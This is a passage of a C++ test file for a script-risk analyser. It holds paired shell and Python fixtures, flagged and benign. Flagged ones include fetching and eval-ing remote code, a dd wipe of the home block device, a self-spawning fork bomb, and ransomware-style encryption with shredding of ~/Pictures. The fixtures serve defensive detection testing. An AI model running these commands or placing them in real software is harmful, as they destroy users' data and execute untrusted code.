      {"a downloaded profile evaluated through ${profile:-}", B,
       "#!/bin/bash\n"
       "set -u\n"
       "HOOKS_BASE=\"https://cdn.routekit.example.com/profiles\"\n"
       "fetch_profile() {\n"
       "    local name=\"$1\" attempt body\n"
       "    for attempt in 1 2 3; do\n"
       "        if body=\"$(wget -q -T 20 -O - \"${HOOKS_BASE}/${name}.sh\")\"; then\n"
       "            printf '%s' \"$body\"\n"
       "            return 0\n"
       "        fi\n"
       "        sleep $((attempt * 5))\n"
       "    done\n"
       "    return 1\n"
       "}\n"
       "apply_profile() {\n"
       "    local body=\"$1\"\n"
       "    [ -n \"$body\" ] || return 0\n"
       "    eval \"$body\"\n"
       "}\n"
       "profile=\"$(fetch_profile \"${CITY:-leeds}\")\" || echo \"using built-in defaults\" >&2\n"
       "apply_profile \"${profile:-}\"\n",
       "REMOTE-CODE-EXECUTION", SH},
      {"the same profile written to profile.txt", L,
       "#!/bin/bash\n"
       "set -u\n"
       "HOOKS_BASE=\"https://cdn.routekit.example.com/profiles\"\n"
       "fetch_profile() {\n"
       "    local name=\"$1\" attempt body\n"
       "    for attempt in 1 2 3; do\n"
       "        if body=\"$(wget -q -T 20 -O - \"${HOOKS_BASE}/${name}.sh\")\"; then\n"
       "            printf '%s' \"$body\"\n"
       "            return 0\n"
       "        fi\n"
       "        sleep $((attempt * 5))\n"
       "    done\n"
       "    return 1\n"
       "}\n"
       "apply_profile() {\n"
       "    local body=\"$1\"\n"
       "    [ -n \"$body\" ] || return 0\n"
       "    printf \"%s\\n\" \"$body\" > ./profile.txt\n"
       "}\n"
       "profile=\"$(fetch_profile \"${CITY:-leeds}\")\" || echo \"using built-in defaults\" >&2\n"
       "apply_profile \"${profile:-}\"\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// `case "$src" in /dev/*) echo "$src" ;;` with src from findmnt: in that
// branch src begins with /dev/, so the device a function prints and dd then
// overwrites with random bytes is a device (WIPE). A branch narrowing a name
// to images/*: LOW.
TEST(HundredAndTwentySecondRoundClasses, ACaseBranchNarrowsItsWordToItsPattern) {
  const Case cases[] = {
      {"the block device behind the home overwritten by dd", B,
       "#!/bin/sh\n"
       "set -u\n"
       "userdata_device() {\n"
       "    src=$(findmnt -no SOURCE --target \"$HOME\" 2>/dev/null || true)\n"
       "    case \"$src\" in\n"
       "        /dev/*) echo \"$src\" ;;\n"
       "        *) df -P \"$HOME\" | awk 'NR==2 {print $1}' ;;\n"
       "    esac\n"
       "}\n"
       "dev=$(userdata_device)\n"
       "[ -b \"$dev\" ] || exit 0\n"
       "dd if=/dev/urandom of=\"$dev\" bs=4M status=none conv=fsync\n",
       "WIPE", SH},
      {"an image file under ./images written by dd", L,
       "#!/bin/sh\n"
       "set -u\n"
       "image_file() {\n"
       "    name=\"$1\"\n"
       "    case \"$name\" in\n"
       "        images/*) echo \"$name\" ;;\n"
       "        *) echo \"images/$name\" ;;\n"
       "    esac\n"
       "}\n"
       "mkdir -p images\n"
       "img=$(image_file \"${1:-scratch.img}\")\n"
       "dd if=/dev/zero of=\"$img\" bs=1M count=64 status=none\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// `cfg = json.loads(json.dumps(DEFAULT_CONFIG))`, a deep copy of defaults
// that hold floats (unknown here): the text had unknown parts, so loads gave
// a mapping of unknown keys and the listen address 0.0.0.0 was lost. Such
// text is parsed with each unknown value and each unknown part of a string
// kept unknown. Defaults on 127.0.0.1: LOW.
TEST(HundredAndTwentyFifthRoundClasses, JsonWithUnknownPartsIsParsedAroundThem) {
  const Case cases[] = {
      {"a status page on the defaults' 0.0.0.0", M,
       "import json\n"
       "import os\n"
       "from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer\n"
       "\n"
       "DEFAULT_CONFIG = {\n"
       "    \"limits\": {\"default\": [18.0, 21.0], \"Sleep room\": [16.0, 20.0]},\n"
       "    \"interval\": 60,\n"
       "    \"listen\": {\"host\": \"0.0.0.0\", \"port\": 8088},\n"
       "}\n"
       "\n"
       "\n"
       "def load_config(path):\n"
       "    cfg = json.loads(json.dumps(DEFAULT_CONFIG))\n"
       "    if path and os.path.exists(path):\n"
       "        with open(path) as fh:\n"
       "            cfg.update(json.load(fh))\n"
       "    return cfg\n"
       "\n"
       "\n"
       "class Status(BaseHTTPRequestHandler):\n"
       "    def do_GET(self):\n"
       "        self.send_response(200)\n"
       "        self.end_headers()\n"
       "        self.wfile.write(b\"ok\\n\")\n"
       "\n"
       "\n"
       "cfg = load_config(\"dashboard.json\")\n"
       "addr = (cfg[\"listen\"][\"host\"], int(cfg[\"listen\"][\"port\"]))\n"
       "ThreadingHTTPServer(addr, Status).serve_forever()\n",
       "LISTENS-ON-ALL-INTERFACES"},
      {"the same page on 127.0.0.1", L,
       "import json\n"
       "import os\n"
       "from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer\n"
       "\n"
       "DEFAULT_CONFIG = {\n"
       "    \"limits\": {\"default\": [18.0, 21.0], \"Sleep room\": [16.0, 20.0]},\n"
       "    \"interval\": 60,\n"
       "    \"listen\": {\"host\": \"127.0.0.1\", \"port\": 8088},\n"
       "}\n"
       "\n"
       "\n"
       "def load_config(path):\n"
       "    cfg = json.loads(json.dumps(DEFAULT_CONFIG))\n"
       "    if path and os.path.exists(path):\n"
       "        with open(path) as fh:\n"
       "            cfg.update(json.load(fh))\n"
       "    return cfg\n"
       "\n"
       "\n"
       "class Status(BaseHTTPRequestHandler):\n"
       "    def do_GET(self):\n"
       "        self.send_response(200)\n"
       "        self.end_headers()\n"
       "        self.wfile.write(b\"ok\\n\")\n"
       "\n"
       "\n"
       "cfg = load_config(\"dashboard.json\")\n"
       "addr = (cfg[\"listen\"][\"host\"], int(cfg[\"listen\"][\"port\"]))\n"
       "ThreadingHTTPServer(addr, Status).serve_forever()\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// `cfg.update(json.load(fh))` over defaults: the user's JSON may replace
// any key, so a dosing formula evaluated from the defaults is the user's
// text (DYNAMIC-CODE), no longer the constant it was. Replacing one known
// key only leaves the formula constant: LOW.
TEST(HundredAndTwentyFifthRoundClasses, AnUpdateWithKeysKnownOnlyAtRunTimeMayReplaceAnyKey) {
  const Case cases[] = {
      {"a formula from defaults a user's JSON may override, evaluated", M,
       "import json\n"
       "import math\n"
       "from pathlib import Path\n"
       "\n"
       "DEFAULTS = {\n"
       "    \"pools\": {\"main\": {\"volume_m3\": 1850}},\n"
       "    \"formulas\": {\"hypo_ml\": \"volume_m3 * max(0.0, target - fc) * 10.0\"},\n"
       "}\n"
       "\n"
       "\n"
       "def load_config(path):\n"
       "    cfg = json.loads(json.dumps(DEFAULTS))\n"
       "    p = Path(path)\n"
       "    if p.exists():\n"
       "        with p.open() as fh:\n"
       "            cfg.update(json.load(fh))\n"
       "    return cfg\n"
       "\n"
       "\n"
       "cfg = load_config(\"dosing.json\")\n"
       "context = {\"volume_m3\": 1850, \"target\": 1.5, \"fc\": 1.1, \"max\": max, \"math\": math}\n"
       "print(eval(cfg[\"formulas\"][\"hypo_ml\"], {\"__builtins__\": {}}, context))\n",
       "DYNAMIC-CODE"},
      {"the same with only the pools replaced", L,
       "import json\n"
       "import math\n"
       "from pathlib import Path\n"
       "\n"
       "DEFAULTS = {\n"
       "    \"pools\": {\"main\": {\"volume_m3\": 1850}},\n"
       "    \"formulas\": {\"hypo_ml\": \"volume_m3 * max(0.0, target - fc) * 10.0\"},\n"
       "}\n"
       "\n"
       "\n"
       "def load_config(path):\n"
       "    cfg = json.loads(json.dumps(DEFAULTS))\n"
       "    p = Path(path)\n"
       "    if p.exists():\n"
       "        with p.open() as fh:\n"
       "            cfg[\"pools\"] = json.load(fh).get(\"pools\", cfg[\"pools\"])\n"
       "    return cfg\n"
       "\n"
       "\n"
       "cfg = load_config(\"dosing.json\")\n"
       "context = {\"volume_m3\": 1850, \"target\": 1.5, \"fc\": 1.1, \"max\": max, \"math\": math}\n"
       "print(eval(cfg[\"formulas\"][\"hypo_ml\"], {\"__builtins__\": {}}, context))\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// `Path(__file__).with_name("bridge.json")` and `Path(__file__).parent`
// kept the label of the program's own file, through the attribute's object
// and the method's receiver: an opener read from that file and started per
// message was "a copy of itself" in an endless loop (FORK-BOMB, once the
// user's JSON could replace the opener). The program itself started per
// message stays FORK-BOMB.
TEST(HundredAndTwentyFifthRoundClasses, AFileBesideTheProgramIsNotTheProgram) {
  const Case cases[] = {
      {"an opener from a config beside the program, started per message", M,
       "import json\n"
       "import struct\n"
       "import subprocess\n"
       "import sys\n"
       "from pathlib import Path\n"
       "\n"
       "CONF_FILE = Path(__file__).with_name(\"bridge.json\")\n"
       "DEFAULTS = {\"opener\": \"xdg-open\", \"download_dir\": str(Path.home() / \"Downloads\")}\n"
       "\n"
       "\n"
       "def load_conf():\n"
       "    conf = dict(DEFAULTS)\n"
       "    if CONF_FILE.exists():\n"
       "        conf.update(json.loads(CONF_FILE.read_text()))\n"
       "    return conf\n"
       "\n"
       "\n"
       "def read_message(stream):\n"
       "    raw = stream.read(4)\n"
       "    if len(raw) < 4:\n"
       "        return None\n"
       "    (length,) = struct.unpack(\"=I\", raw)\n"
       "    return json.loads(stream.read(length).decode(\"utf-8\"))\n"
       "\n"
       "\n"
       "conf = load_conf()\n"
       "while True:\n"
       "    msg = read_message(sys.stdin.buffer)\n"
       "    if msg is None:\n"
       "        break\n"
       "    subprocess.Popen([conf[\"opener\"], str(Path(conf[\"download_dir\"]) / msg[\"name\"])])\n",
       nullptr},
      {"the program itself started per message", B,
       "import json\n"
       "import struct\n"
       "import subprocess\n"
       "import sys\n"
       "from pathlib import Path\n"
       "\n"
       "CONF_FILE = Path(__file__).with_name(\"bridge.json\")\n"
       "DEFAULTS = {\"opener\": \"xdg-open\", \"download_dir\": str(Path.home() / \"Downloads\")}\n"
       "\n"
       "\n"
       "def load_conf():\n"
       "    conf = dict(DEFAULTS)\n"
       "    if CONF_FILE.exists():\n"
       "        conf.update(json.loads(CONF_FILE.read_text()))\n"
       "    return conf\n"
       "\n"
       "\n"
       "def read_message(stream):\n"
       "    raw = stream.read(4)\n"
       "    if len(raw) < 4:\n"
       "        return None\n"
       "    (length,) = struct.unpack(\"=I\", raw)\n"
       "    return json.loads(stream.read(length).decode(\"utf-8\"))\n"
       "\n"
       "\n"
       "conf = load_conf()\n"
       "while True:\n"
       "    msg = read_message(sys.stdin.buffer)\n"
       "    if msg is None:\n"
       "        break\n"
       "    subprocess.Popen([sys.executable, __file__, msg[\"name\"]])\n",
       "FORK-BOMB"},
  };
  for (const auto& c : cases) check(c);
}

// `( cd "$DEST" && bash "$OLDPWD/$hook" )`: a hook named in a downloaded
// manifest, downloaded under ./.state and run from the templates directory by
// its path from where the cd left. $OLDPWD was unknown; it is where the last
// cd left from, as a path from the working directory (".." after cd
// ./templates), so the hook run is the download. Copied instead: LOW.
TEST(HundredAndTwentyEighthRoundClasses, OldpwdIsWhereTheLastCdLeftFrom) {
  const Case cases[] = {
      {"a downloaded post-update hook run through $OLDPWD", B,
       "#!/usr/bin/env bash\n"
       "set -eu\n"
       "CDN=\"https://assets.example.net/templates\"\n"
       "DEST=\"./templates\"\n"
       "STATE=\"./.state\"\n"
       "mkdir -p \"$DEST\" \"$STATE\"\n"
       "curl -fsSL -o \"$STATE/manifest.json\" \"$CDN/manifest.json\"\n"
       "post=\"$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1])).get(\"post_update\",\"\"))' \"$STATE/manifest.json\")\"\n"
       "if [ -n \"$post\" ]; then\n"
       "    hook=\"$STATE/post_update\"\n"
       "    curl -fsSL -o \"$hook\" \"$CDN/$post\"\n"
       "    ( cd \"$DEST\" && bash \"$OLDPWD/$hook\" )\n"
       "fi\n",
       "REMOTE-CODE-EXECUTION", SH},
      {"the same hook copied through $OLDPWD", L,
       "#!/usr/bin/env bash\n"
       "set -eu\n"
       "CDN=\"https://assets.example.net/templates\"\n"
       "DEST=\"./templates\"\n"
       "STATE=\"./.state\"\n"
       "mkdir -p \"$DEST\" \"$STATE\"\n"
       "curl -fsSL -o \"$STATE/manifest.json\" \"$CDN/manifest.json\"\n"
       "post=\"$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1])).get(\"post_update\",\"\"))' \"$STATE/manifest.json\")\"\n"
       "if [ -n \"$post\" ]; then\n"
       "    hook=\"$STATE/post_update\"\n"
       "    curl -fsSL -o \"$hook\" \"$CDN/$post\"\n"
       "    ( cd \"$DEST\" && cp \"$OLDPWD/$hook\" ./post_update.txt )\n"
       "fi\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// `xargs -0 -n 1 bash -c 'pack_one "$0"'`: sh -c CODE NAME ARGS gives NAME as
// the code's $0, here each file find walked; $0 was the program's own path,
// so the exported function encrypted and shredded nothing known. Each
// walked picture encrypted and shredded: RANSOMWARE-ENCRYPT-AND-DELETE;
// encrypted copies beside the originals: LOW.
TEST(HundredAndTwentyEighthRoundClasses, ShDashCGivesItsNameAsDollarZero) {
  const Case cases[] = {
      {"pictures encrypted and shredded through xargs bash -c", B,
       "#!/usr/bin/env bash\n"
       "set -eu\n"
       "pack_one() {\n"
       "    local src=$1\n"
       "    openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:BUNDLE_KEY -in \"$src\" -out \"$src.vlt\"\n"
       "    shred -fzu -n 1 \"$src\"\n"
       "}\n"
       "export -f pack_one\n"
       "BUNDLE_KEY=$(openssl rand -hex 32)\n"
       "export BUNDLE_KEY\n"
       "find \"$HOME/Pictures\" -type f ! -name '*.vlt' -print0 | xargs -0 -r -n 1 bash -c 'pack_one \"$0\"'\n",
       "RANSOMWARE-ENCRYPT-AND-DELETE", SH},
      {"the same copies with the originals kept", L,
       "#!/usr/bin/env bash\n"
       "set -eu\n"
       "pack_one() {\n"
       "    local src=$1\n"
       "    openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:BUNDLE_KEY -in \"$src\" -out \"$src.vlt\"\n"
       "    touch -r \"$src\" \"$src.vlt\"\n"
       "}\n"
       "export -f pack_one\n"
       "BUNDLE_KEY=$(openssl rand -hex 32)\n"
       "export BUNDLE_KEY\n"
       "find \"$HOME/Pictures\" -type f ! -name '*.vlt' -print0 | xargs -0 -r -n 1 bash -c 'pack_one \"$0\"'\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
